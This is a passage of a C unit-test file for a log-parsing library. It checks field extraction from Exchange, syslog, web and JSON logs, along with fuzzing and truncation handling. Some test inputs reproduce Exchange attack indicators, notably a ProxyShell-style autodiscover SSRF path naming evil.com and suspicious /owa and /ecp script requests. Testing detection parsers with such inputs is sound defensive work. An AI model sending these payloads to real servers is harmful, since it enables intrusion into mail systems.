    expect_field(ev, WEIR_F_CS_URI_QUERY_RAW, "?X-Rps-CAT=VgEAVAdXaW5kb3dz");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_smtpreceive_default_layout_unquotes_data_with_commas(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "smtpreceive_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_SMTPRECEIVE);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CONNECTOR_ID, "MAIL01\\Default Frontend MAIL01");
    expect_field(ev, WEIR_F_REMOTE_ENDPOINT, "203.0.113.50:51234");
    expect_field(ev, WEIR_F_SMTP_EVENT, "<");
    expect_field(ev, WEIR_F_SMTP_DATA, "MAIL FROM:<a@example.net> SIZE=1024, BODY=8BITMIME");
    expect_field(ev, WEIR_F_SMTP_CONTEXT, "");
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_SMTP_CONTEXT, "Inbound AUTH LOGIN failed because of LogonDenied");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_msgtrack_fields_stay_native_not_web_taxonomy(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "msgtrack_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_MSGTRACK);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_MESSAGE_SUBJECT, "Invoice, \"urgent\" /owa/auth/x.js");
    expect_field(ev, WEIR_F_SENDER_ADDRESS, "a@example.net");
    expect_field(ev, WEIR_F_TRACK_EVENT_ID, "RECEIVE");
    expect_field(ev, WEIR_F_CLIENT_IP, "203.0.113.50");
    expect_field(ev, WEIR_F_SCHEMA_VERSION, "15.01.2507.016");
    /* a subject quoting an attack path must not feed web fields (facts §0.6) */
    expect_absent(ev, WEIR_F_C_IP);
    expect_absent(ev, WEIR_F_C_URI);
    expect_absent(ev, WEIR_F_CS_URI_QUERY);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

/* ---- syslog ----------------------------------------------------------------------------- */

static void test_syslog_postfix_line_yields_host_program_pid_and_message(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "syslog_postfix.log");
    weir_parser *p = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIMESTAMP, "Mar 16 00:01:25");
    expect_field(ev, WEIR_F_HOSTNAME, "evita");
    expect_field(ev, WEIR_F_PROGRAM, "postfix/smtpd");
    expect_field(ev, WEIR_F_PID, "1713");
    expect_field(ev, WEIR_F_MESSAGE, "connect from camomile.cloud9.net[168.100.1.3]");
    expect_absent(ev, WEIR_F_PRI);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_syslog_rfc3164_with_pri_and_padded_day(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "syslog_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_PRI, "22");
    expect_field(ev, WEIR_F_TIMESTAMP, "Mar  6 01:02:03");
    expect_field(ev, WEIR_F_HOSTNAME, "mx1");
    expect_field(ev, WEIR_F_PID, "2024");
    expect_field(ev, WEIR_F_MESSAGE, "NOQUEUE: reject: RCPT from unknown[203.0.113.9]: 554 5.7.1 "
                                     "<x@example.org>: Relay access denied");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_syslog_rfc5424_with_structured_data(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "syslog_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_PRI, "165");
    expect_field(ev, WEIR_F_TIMESTAMP, "2023-03-01T09:12:44.501Z");
    expect_field(ev, WEIR_F_HOSTNAME, "mx2.example.org");
    expect_field(ev, WEIR_F_PROGRAM, "postfix/smtp");
    expect_field(ev, WEIR_F_PID, "4242");
    expect_field(ev, WEIR_F_MSGID, "ID47");
    expect_field(ev, WEIR_F_STRUCTURED_DATA,
                 "[exampleSDID@32473 iut=\"3\" eventSource=\"Application\"]"
                 "[meta note=\"a \\\"q\\\" \\] b\"]");
    expect_field(ev, WEIR_F_MESSAGE, "status=sent");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_syslog_rfc5424_nil_values_leave_fields_unset(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "syslog_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 2), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIMESTAMP, "2023-03-01T09:12:45Z");
    expect_absent(ev, WEIR_F_HOSTNAME);
    expect_absent(ev, WEIR_F_PROGRAM);
    expect_absent(ev, WEIR_F_STRUCTURED_DATA);
    expect_absent(ev, WEIR_F_MESSAGE);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_syslog_rfc3339_file_format_is_accepted(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "syslog_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 3), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIMESTAMP, "2023-03-01T09:12:44.501234+00:00");
    expect_field(ev, WEIR_F_PROGRAM, "dovecot");
    expect_field(ev, WEIR_F_MESSAGE, "imap-login: Login: user=<bob>");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_syslog_without_pri_or_timestamp_is_malformed(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev, "evita postfix/smtpd[1713]: connect from x"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "no PRI and no timestamp");
    assert_int_equal(parse_str(p, ev, "<13>hello"), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "no RFC 3164 or RFC 5424 header after PRI");
    assert_int_equal(parse_str(p, ev, "<192>Mar 16 00:01:25 h p: m"), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "invalid PRI");
    assert_int_equal(parse_str(p, ev, "<13"), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "invalid PRI");
    assert_int_equal(parse_str(p, ev, "<13>1 2023-03-01T09:12:45Z host"), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "RFC 5424 header incomplete");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_syslog_unterminated_structured_data_is_malformed(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev, "<13>1 2023-03-01T09:12:45Z h a 1 m [id k=\"v] msg"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "unterminated structured data");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

/* ---- combined --------------------------------------------------------------------------- */

static void test_combined_request_gives_method_uri_stem_and_query(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "combined_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_COMBINED);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_C_IP, "203.0.113.7");
    expect_field(ev, WEIR_F_CS_USERNAME, "");
    expect_field(ev, WEIR_F_TIMESTAMP, "05/Mar/2021:03:06:27 +0000");
    expect_field(ev, WEIR_F_CS_METHOD, "GET");
    expect_field(ev, WEIR_F_C_URI, "/owa/auth/x.js?a=/ecp/");
    expect_raw(ev, WEIR_F_C_URI, "/owa/auth/x.js?a=%2Fecp%2F");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/auth/x.js");
    expect_field(ev, WEIR_F_CS_URI_QUERY_RAW, "a=/ecp/");
    expect_field(ev, WEIR_F_CS_URI_QUERY, "/owa/auth/x.js?a=/ecp/");
    expect_field(ev, WEIR_F_CS_VERSION, "HTTP/1.1");
    expect_field(ev, WEIR_F_SC_STATUS, "200");
    expect_field(ev, WEIR_F_SC_BYTES, "512");
    expect_field(ev, WEIR_F_CS_REFERRER, "");
    expect_field(ev, WEIR_F_CS_USER_AGENT, "python-requests/2.25.1");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_combined_backslash_escaped_quote_in_user_agent(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "combined_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_COMBINED);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_USER_AGENT, "Mozilla/5.0 (X11; Linux x86_64) \"quoted\"");
    expect_field(ev, WEIR_F_CS_USERNAME, "alice");
    expect_field(ev, WEIR_F_CS_REFERRER, "https://mail.example.org/owa/");
    expect_field(ev, WEIR_F_C_URI, "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email="
                                   "autodiscover/autodiscover.json?@evil.com");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_common_log_without_referer_and_agent_parses(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "combined_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_COMBINED);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 2), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_SC_STATUS, "404");
    expect_field(ev, WEIR_F_SC_BYTES, "");
    expect_absent(ev, WEIR_F_CS_REFERRER);
    expect_absent(ev, WEIR_F_CS_USER_AGENT);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_combined_garbage_request_line_leaves_uri_unset(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_COMBINED);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev,
                               "192.0.2.1 - - [05/Mar/2021:03:08:00 +0000] "
                               "\"\\x16\\x03\\x01\\x00\" 400 157 \"-\" \"-\""),
                     WEIR_PARSE_OK);
    expect_absent(ev, WEIR_F_C_URI);
    expect_absent(ev, WEIR_F_CS_METHOD);
    expect_field(ev, WEIR_F_SC_STATUS, "400");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_combined_without_bracketed_time_is_malformed(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_COMBINED);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev, "192.0.2.1 - - 05/Mar/2021 \"GET / HTTP/1.1\" 200 1"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "no [time]");
    assert_int_equal(parse_str(p, ev, "192.0.2.1 - - [05/Mar/2021:03:08:00 +0000] \"GET / HTTP"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "unterminated quote");
    assert_int_equal(parse_str(p, ev, "192.0.2.1 - - [05/Mar/2021:03:08:00 +0000] \"GET /\" OK 1"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "status");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

/* ---- JSON ------------------------------------------------------------------------------- */

static void test_json_envelope_maps_nested_ecs_fields(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "json_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_JSON);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIMESTAMP, "2021-03-03T06:49:42.162Z");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/ecp/y.js");
    expect_field(ev, WEIR_F_CS_URI_QUERY_RAW, "a=1");
    expect_field(ev, WEIR_F_C_URI, "/ecp/y.js?a=1");
    expect_field(ev, WEIR_F_CS_URI_QUERY, "/ecp/y.js?a=1");
    expect_field(ev, WEIR_F_CS_USER_AGENT, "python-requests/2.25.1");
    expect_field(ev, WEIR_F_CS_METHOD, "POST");
    expect_field(ev, WEIR_F_SC_STATUS, "241");
    expect_field(ev, WEIR_F_C_IP, "130.255.189.21");
    expect_field(ev, WEIR_F_HOSTNAME, "exch01");
    expect_field(ev, WEIR_F_MESSAGE, "2021-03-03 06:49:42 10.0.0.11 POST /ecp/y.js a=1 443 - "
                                     "130.255.189.21 python-requests/2.25.1 - 241 0 0 5");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_json_dotted_keys_escapes_and_url_original(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "json_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_JSON);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    /* \u00e9 and a surrogate pair become UTF-8; \u0000 stays visible, like %00 */
    expect_field(ev, WEIR_F_CS_USER_AGENT,
                 "Mozilla/5.0 caf\xc3\xa9 \"q\" nul\\u0000end \xf0\x9f\x98\x80");
    expect_field(ev, WEIR_F_C_URI,
                 "https://mail.example.org/owa/auth/Current/themes/resources/logon.css?x=/ecp");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/auth/Current/themes/resources/logon.css");
    expect_field(ev, WEIR_F_CS_URI_QUERY_RAW, "x=/ecp");
    expect_raw(ev, WEIR_F_CS_URI_QUERY_RAW, "x=%2Fecp");
    expect_field(ev, WEIR_F_CS_METHOD, "GET");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_json_that_does_not_parse_is_malformed(void **state)
{
    (void)state;
    static const char *const bad[][2] = {
        {"{\"a\":1,}", "string expected"},
        {"{\"a\":\"open}", "unterminated string"},
        {"{\"a\":tru}", "unexpected character"},
        {"{\"a\":1} x", "bytes after the object"},
        {"{\"a\":\"tab\there\"}", "control character"},
        {"{\"a\":01}", "',' or '}' expected"},
        {"{\"a\":\"\\q\"}", "bad escape"},
        {"{\"a\":\"\\u12\"}", "bad \\u escape"},
        {"{\"a\" 1}", "':' expected"},
        {"[1,2]", "not an object"},
        {"{\"a\":[1,2}", "',' or ']' expected"},
        {"{\"a\":-}", "bad number"},
    };
    weir_parser *p = new_parser(WEIR_FMT_JSON);
    weir_event *ev = new_event(0);
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        assert_int_equal(parse_str(p, ev, bad[i][0]), WEIR_PARSE_MALFORMED);
        expect_malformed(ev, bad[i][1]);
    }
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_json_nested_deeper_than_32_is_malformed(void **state)
{
    (void)state;
    char doc[256] = "";
    for (int i = 0; i < 40; i++)
        strcat(doc, "{\"a\":");
    strcat(doc, "1");
    for (int i = 0; i < 40; i++)
        strcat(doc, "}");
    weir_parser *p = new_parser(WEIR_FMT_JSON);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev, doc), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "nested deeper than 32");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

/* ---- malformed and hostile input, every format ------------------------------------------ */

static void test_empty_line_is_malformed_in_every_format(void **state)
{
    (void)state;
    weir_event *ev = new_event(0);
    for (int f = 0; f < WEIR_FMT__COUNT; f++) {
        weir_parser *p = new_parser((weir_format)f);
        assert_int_equal(weir_parser_parse(p, "", 0, ev), WEIR_PARSE_MALFORMED);
        expect_malformed(ev, "empty line");
        assert_int_equal(weir_parser_parse(p, "\r\n", 2, ev), WEIR_PARSE_MALFORMED);
        assert_int_equal(weir_parser_parse(p, NULL, 0, ev), WEIR_PARSE_MALFORMED);
        weir_parser_destroy(p);
    }
    weir_event_destroy(ev);
}

static void test_binary_garbage_is_malformed_except_as_oab_text(void **state)
{
    (void)state;
    static const char garbage[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xff\xfe\x00\x7f"
                                  "\x80\x81\xc3\x28\xa0\xa1\xe2\x28\xa1\x00\x00\x01";
    weir_event *ev = new_event(0);
    for (int f = 0; f < WEIR_FMT__COUNT; f++) {
        weir_parser *p = new_parser((weir_format)f);
        int rc = weir_parser_parse(p, garbage, sizeof(garbage) - 1, ev);
        if (f == WEIR_FMT_OAB) {
            assert_int_equal(rc, WEIR_PARSE_OK); /* free text: the bytes are the message */
            assert_int_equal(weir_event_get(ev, WEIR_F_MESSAGE)->len, sizeof(garbage) - 1);
        } else {
            if (rc != WEIR_PARSE_MALFORMED)
                fail_msg("format %s accepted garbage", weir_format_name((weir_format)f));
            assert_int_equal(weir_event_line(ev).len, sizeof(garbage) - 1);
        }
        weir_parser_destroy(p);
    }
    weir_event_destroy(ev);
}

static void test_truncated_iis_line_is_malformed(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(weir_parser_parse(p, fx.line[6], 120, ev), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "6 columns, the layout has 15");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

/* Every prefix of every real and synthetic line, in its own format and in auto: whatever the
 * cut, the parse ends in a defined status and never reads past the prefix (ASan watches). */
static void test_every_prefix_of_every_fixture_line_parses_or_is_malformed(void **state)
{
    (void)state;
    static const struct {
        const char *file;
        weir_format f;
    } files[] = {
        {"iis_real.log", WEIR_FMT_IIS},
        {"iis_synthetic.log", WEIR_FMT_IIS},
        {"httpproxy_real.log", WEIR_FMT_HTTPPROXY},
        {"httpproxy_testproxylogon.csv", WEIR_FMT_HTTPPROXY},
        {"ecp_real.log", WEIR_FMT_ECP},
        {"ecp_synthetic.log", WEIR_FMT_ECP},
        {"rpshttp_synthetic.log", WEIR_FMT_RPSHTTP},
        {"smtpreceive_synthetic.log", WEIR_FMT_SMTPRECEIVE},
        {"msgtrack_synthetic.log", WEIR_FMT_MSGTRACK},
        {"syslog_postfix.log", WEIR_FMT_SYSLOG},
        {"syslog_synthetic.log", WEIR_FMT_SYSLOG},
        {"combined_synthetic.log", WEIR_FMT_COMBINED},
        {"json_synthetic.log", WEIR_FMT_JSON},
    };
    weir_event *ev = new_event(0);
    for (size_t k = 0; k < sizeof(files) / sizeof(files[0]); k++) {
        fixture fx;
        fx_load(&fx, files[k].file);
        weir_format fmts[2] = {files[k].f, WEIR_FMT_AUTO};
        for (int m = 0; m < 2; m++) {
            weir_parser *p = new_parser(fmts[m]);
            for (size_t i = 0; i < fx.n; i++) {
                for (size_t cut = 0; cut <= fx.len[i]; cut++) {
                    char *copy = malloc(cut ? cut : 1);
                    memcpy(copy, fx.line[i], cut);
                    int rc = weir_parser_parse(p, copy, cut, ev);
                    assert_true(rc == WEIR_PARSE_OK || rc == WEIR_PARSE_HEADER ||
                                rc == WEIR_PARSE_MALFORMED);
                    for (size_t j = 0; j < weir_event_nfields(ev); j++) {
                        int id = weir_event_field_id(ev, j);
                        const weir_view *r = weir_event_get_raw(ev, id);
                        if (r->p >= copy && r->p <= copy + cut)
                            assert_true(r->p + r->len <= copy + cut);
                    }
                    free(copy);
                }
                /* restore the stream state the full line leaves (headers) */
                weir_parser_parse(p, fx.line[i], fx.len[i], ev);
            }
            weir_parser_destroy(p);
        }
        fx_free(&fx);
    }
    weir_event_destroy(ev);
}

/* Random bytes drawn mostly from the characters the grammars care about. */
static void test_random_structural_bytes_never_break_a_parser(void **state)
{
    (void)state;
    static const char alphabet[] = " ,;\"'[]{}<>:#%+-\\0123456789TZaSx\x00\xff\t\r.?/=";
    uint32_t seed = 0x9e3779b9u;
    weir_event *ev = new_event(256);
    char line[320];
    for (int f = 0; f < WEIR_FMT__COUNT; f++) {
        weir_parser *p = new_parser((weir_format)f);
        for (int iter = 0; iter < 3000; iter++) {
            seed = seed * 1664525u + 1013904223u;
            size_t len = (seed >> 8) % sizeof(line);
            for (size_t i = 0; i < len; i++) {
                seed = seed * 1664525u + 1013904223u;
                line[i] = alphabet[(seed >> 16) % (sizeof(alphabet) - 1)];
            }
            if (iter % 7 == 0 && len > 20)
                memcpy(line, "2021-03-05 03:06:27 ", 20);
            if (iter % 11 == 0 && len > 24)
                memcpy(line, "2021-03-03T06:49:53.772Z", 24);
            char *copy = malloc(len ? len : 1);
            memcpy(copy, line, len);
            int rc = weir_parser_parse(p, copy, len, ev);
            assert_true(rc == WEIR_PARSE_OK || rc == WEIR_PARSE_HEADER ||
                        rc == WEIR_PARSE_MALFORMED);
            if (len <= 256)
                assert_false(weir_event_truncated(ev));
            free(copy);
        }
        weir_parser_destroy(p);
    }
    weir_event_destroy(ev);
}

static const char big_head[] = "2021-03-05 03:06:27 10.0.0.1 GET /owa/auth/x.aspx ";

static char *big_iis_line(size_t query_len, size_t *len)
{
    const char *head = big_head;
    const char *tail = " 443 - 1.2.3.4 UA - 200 0 0 1";
    size_t h = strlen(head), t = strlen(tail);
    char *s = malloc(h + query_len + t);
    memcpy(s, head, h);
    memset(s + h, 'A', query_len);
    memcpy(s + h + query_len, tail, t);
    *len = h + query_len + t;
    return s;
}

static void test_one_megabyte_line_is_cut_at_max_line_and_flagged(void **state)
{
    (void)state;
    size_t len;
    char *s = big_iis_line(1024 * 1024, &len);
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0); /* 64 KiB */
    assert_int_equal(weir_parser_parse(p, s, len, ev), WEIR_PARSE_OK);
    assert_true(weir_event_truncated(ev));
    assert_int_equal(weir_event_line(ev).len, len); /* keywords still see the whole line */
    expect_field(ev, WEIR_F_CS_METHOD, "GET");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/auth/x.aspx");
    assert_int_equal(weir_event_get(ev, WEIR_F_CS_URI_QUERY_RAW)->len,
                     WEIR_EVENT_DEFAULT_MAX_LINE - strlen(big_head));
    expect_absent(ev, WEIR_F_C_IP); /* beyond the cut */
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    free(s);
}

static void test_one_megabyte_line_parses_whole_when_max_line_allows(void **state)
{
    (void)state;
    size_t len;
    char *s = big_iis_line(1024 * 1024, &len);
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(2 * 1024 * 1024);
    assert_int_equal(weir_parser_parse(p, s, len, ev), WEIR_PARSE_OK);
    assert_false(weir_event_truncated(ev));
    expect_field(ev, WEIR_F_C_IP, "1.2.3.4");
    assert_int_equal(weir_event_get(ev, WEIR_F_C_URI)->len, 17 + 1024 * 1024);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    free(s);
}

static void test_one_megabyte_json_line_is_malformed_as_cut(void **state)
{
    (void)state;
    size_t n = 1024 * 1024;
    char *s = malloc(n);
    memset(s, ' ', n);
    memcpy(s, "{\"message\":\"", 12);
    memset(s + 12, 'x', n - 14);
    memcpy(s + n - 2, "\"}", 2);
    weir_parser *p = new_parser(WEIR_FMT_JSON);
    weir_event *ev = new_event(0);
    assert_int_equal(weir_parser_parse(p, s, n, ev), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "line cut at 65536 bytes");
    assert_true(weir_event_truncated(ev));
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    free(s);
}

static void test_max_line_above_the_limit_is_refused_with_a_reason(void **state)
{
    (void)state;
    char err[256] = "";
    assert_null(weir_event_new((size_t)1 << 40, err, sizeof(err)));
    assert_non_null(strstr(err, "above the limit"));
    assert_null(weir_parser_new(WEIR_FMT__COUNT, err, sizeof(err)));
    assert_non_null(strstr(err, "unknown log format"));
}

/* ---- auto-detection --------------------------------------------------------------------- */

static void test_auto_detects_each_format_from_the_line_shape(void **state)
{
    (void)state;
    static const struct {
        const char *file;
        size_t line;
        weir_format want;
    } cases[] = {
        {"iis_real.log", 6, WEIR_FMT_IIS},
        {"httpproxy_real.log", 5, WEIR_FMT_HTTPPROXY},
        {"ecp_synthetic.log", 0, WEIR_FMT_ECP},
        {"rpshttp_synthetic.log", 0, WEIR_FMT_RPSHTTP},
        {"smtpreceive_synthetic.log", 0, WEIR_FMT_SMTPRECEIVE},
        {"msgtrack_synthetic.log", 0, WEIR_FMT_MSGTRACK},
        {"syslog_postfix.log", 0, WEIR_FMT_SYSLOG},
        {"syslog_synthetic.log", 0, WEIR_FMT_SYSLOG},
        {"syslog_synthetic.log", 1, WEIR_FMT_SYSLOG},
        {"syslog_synthetic.log", 3, WEIR_FMT_SYSLOG},
        {"combined_synthetic.log", 0, WEIR_FMT_COMBINED},
        {"combined_synthetic.log", 2, WEIR_FMT_COMBINED},
        {"json_synthetic.log", 0, WEIR_FMT_JSON},
    };
    weir_event *ev = new_event(0);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        fixture fx;
        fx_load(&fx, cases[i].file);
        weir_parser *p = new_parser(WEIR_FMT_AUTO); /* fresh: no header seen */
        int rc = parse_fx(p, ev, &fx, cases[i].line);
        if (rc != WEIR_PARSE_OK || weir_event_format(ev) != cases[i].want)
            fail_msg("%s:%zu: rc %d format %s (%s), want %s", cases[i].file, cases[i].line, rc,
                     weir_format_name(weir_event_format(ev)),
                     weir_event_reason(ev) ? weir_event_reason(ev) : "",
                     weir_format_name(cases[i].want));
        weir_parser_destroy(p);
        fx_free(&fx);
    }
    weir_event_destroy(ev);
}

static void test_auto_fields_header_selects_format_and_layout(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_AUTO);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_HEADER);
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_HEADER);
    assert_int_equal(weir_event_format(ev), WEIR_FMT_IIS);
    assert_int_equal(parse_fx(p, ev, &fx, 2), WEIR_PARSE_OK);
    assert_int_equal(weir_event_format(ev), WEIR_FMT_IIS);
    expect_field(ev, WEIR_F_SC_STATUS, "500"); /* 8th custom column */
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_auto_reads_exchange_headers_and_export_csv_rows(void **state)
{
    (void)state;
    static const struct {
        const char *file;
        size_t first_data;
        weir_format want;
    } cases[] = {
        {"httpproxy_real.log", 5, WEIR_FMT_HTTPPROXY},
        {"httpproxy_testproxylogon.csv", 1, WEIR_FMT_HTTPPROXY},
        {"ecp_real.log", 1, WEIR_FMT_ECP},
    };
    weir_event *ev = new_event(0);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        fixture fx;
        fx_load(&fx, cases[i].file);
        weir_parser *p = new_parser(WEIR_FMT_AUTO);
        for (size_t k = 0; k < cases[i].first_data; k++)
            assert_int_equal(parse_fx(p, ev, &fx, k), WEIR_PARSE_HEADER);
        for (size_t k = cases[i].first_data; k < fx.n; k++) {
            assert_int_equal(parse_fx(p, ev, &fx, k), WEIR_PARSE_OK);
            assert_int_equal(weir_event_format(ev), cases[i].want);
        }
        weir_parser_destroy(p);
        fx_free(&fx);
    }
    weir_event_destroy(ev);
}

static void test_auto_log_type_alone_selects_oab(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "oab_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_AUTO);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_MALFORMED); /* no shape, no header */
    expect_malformed(ev, "format not recognised");
    assert_int_equal(parse_str(p, ev, "#Log-type: OAB Generator Log"), WEIR_PARSE_HEADER);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    assert_int_equal(weir_event_format(ev), WEIR_FMT_OAB);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_auto_header_format_applies_only_to_lines_of_its_family(void **state)
{
    (void)state;
    fixture hp, js;
    fx_load(&hp, "httpproxy_real.log");
    fx_load(&js, "json_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_AUTO);
    weir_event *ev = new_event(0);
    for (size_t k = 0; k < 5; k++)
        parse_fx(p, ev, &hp, k);
    assert_int_equal(parse_fx(p, ev, &js, 0), WEIR_PARSE_OK);
    assert_int_equal(weir_event_format(ev), WEIR_FMT_JSON);
    assert_int_equal(parse_fx(p, ev, &hp, 5), WEIR_PARSE_OK);
    assert_int_equal(weir_event_format(ev), WEIR_FMT_HTTPPROXY);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&hp);
    fx_free(&js);
}

static void test_auto_csv_line_with_unknown_column_count_needs_a_header(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_AUTO);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev, "2023-01-01T00:00:00.000Z,a,b"), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "needs its #Fields");
    assert_int_equal(parse_str(p, ev, "hello world"), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "format not recognised");
